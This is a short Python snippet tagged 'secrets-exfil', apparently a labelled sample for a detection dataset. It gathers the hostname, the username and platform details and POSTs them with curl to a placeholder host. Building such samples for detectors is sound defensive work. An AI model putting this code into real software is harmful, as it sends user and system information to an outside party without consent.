# family: secrets-exfil
# host identity passed to curl on the command line
import platform
import subprocess
import getpass

ident = f"{platform.node()}|{getpass.getuser()}|{platform.platform()}"
subprocess.run(["curl", "-s", "-X", "POST", "-d", ident, "https://t.example.invalid/i"])
